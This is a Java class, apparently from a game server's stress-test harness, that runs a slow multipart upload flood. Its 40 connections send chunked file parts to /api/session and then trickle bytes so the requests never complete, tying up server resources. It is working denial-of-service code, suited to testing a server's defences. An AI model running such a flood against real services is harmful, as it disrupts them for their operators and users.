package games.chalet.attack;

import java.io.OutputStream;
import java.net.Socket;
import java.time.Duration;

/** Files, each below a usual limit, that a stranger sends in chunks and never finishes. */
final class MultipartFlood implements Attack {

  private static final int CONNECTIONS = 40;
  private static final int FILES = 9;
  private static final int CHUNKS_OF_A_FILE = 27;
  private static final String HEAD =
      "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"f\"\r\n\r\n";
  private static final int CHUNK = 32768;
  private static final Duration BETWEEN_CRUMBS = Duration.ofSeconds(2);

  @Override
  public void on(Target target) {
    byte[] chunk = new byte[CHUNK];
    String size = Integer.toHexString(CHUNK) + "\r\n";
    byte[] head = chunk(HEAD);
    byte[] next = chunk("\r\n");
    target.swarm(
        CONNECTIONS,
        (Socket socket, int number) -> {
          OutputStream out = socket.getOutputStream();
          out.write(
              Http.request(
                  "POST",
                  "/api/session",
                  "Content-Type: multipart/form-data; boundary=x",
                  "Transfer-Encoding: chunked"));
          for (int file = 0; file < FILES && target.goesOn(); file++) {
            out.write(head);
            for (int i = 0; i < CHUNKS_OF_A_FILE; i++) {
              out.write(Http.bytes(size));
              out.write(chunk);
              out.write(Http.bytes("\r\n"));
              target.count("chunks of 32 kB");
            }
            if (file < FILES - 1) {
              out.write(next);
            }
          }
          while (target.goesOn()) {
            out.write(Http.bytes("1\r\nx\r\n"));
            target.rest(BETWEEN_CRUMBS);
          }
        });
  }

  private static byte[] chunk(String text) {
    return Http.bytes(Integer.toHexString(text.length()) + "\r\n" + text + "\r\n");
  }
}
